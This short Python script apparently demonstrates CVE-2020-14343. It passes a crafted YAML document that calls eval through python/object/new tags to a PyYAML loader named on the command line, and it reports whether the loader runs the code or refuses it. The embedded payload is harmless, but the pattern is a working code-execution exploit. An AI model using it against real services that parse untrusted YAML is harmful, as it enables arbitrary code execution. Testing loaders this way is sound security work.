"""CVE-2020-14343, tried on the loader that is named: a menu that has Python run what it says."""

import sys

import yaml

MENU = """!!python/object/new:tuple
- !!python/object/new:map [ !!python/name:eval , [ "print('the menu ran my code')" ] ]
"""
try:
    getattr(yaml, sys.argv[1])(MENU)
except yaml.YAMLError as problem:
    print("refused:", str(problem).splitlines()[0])
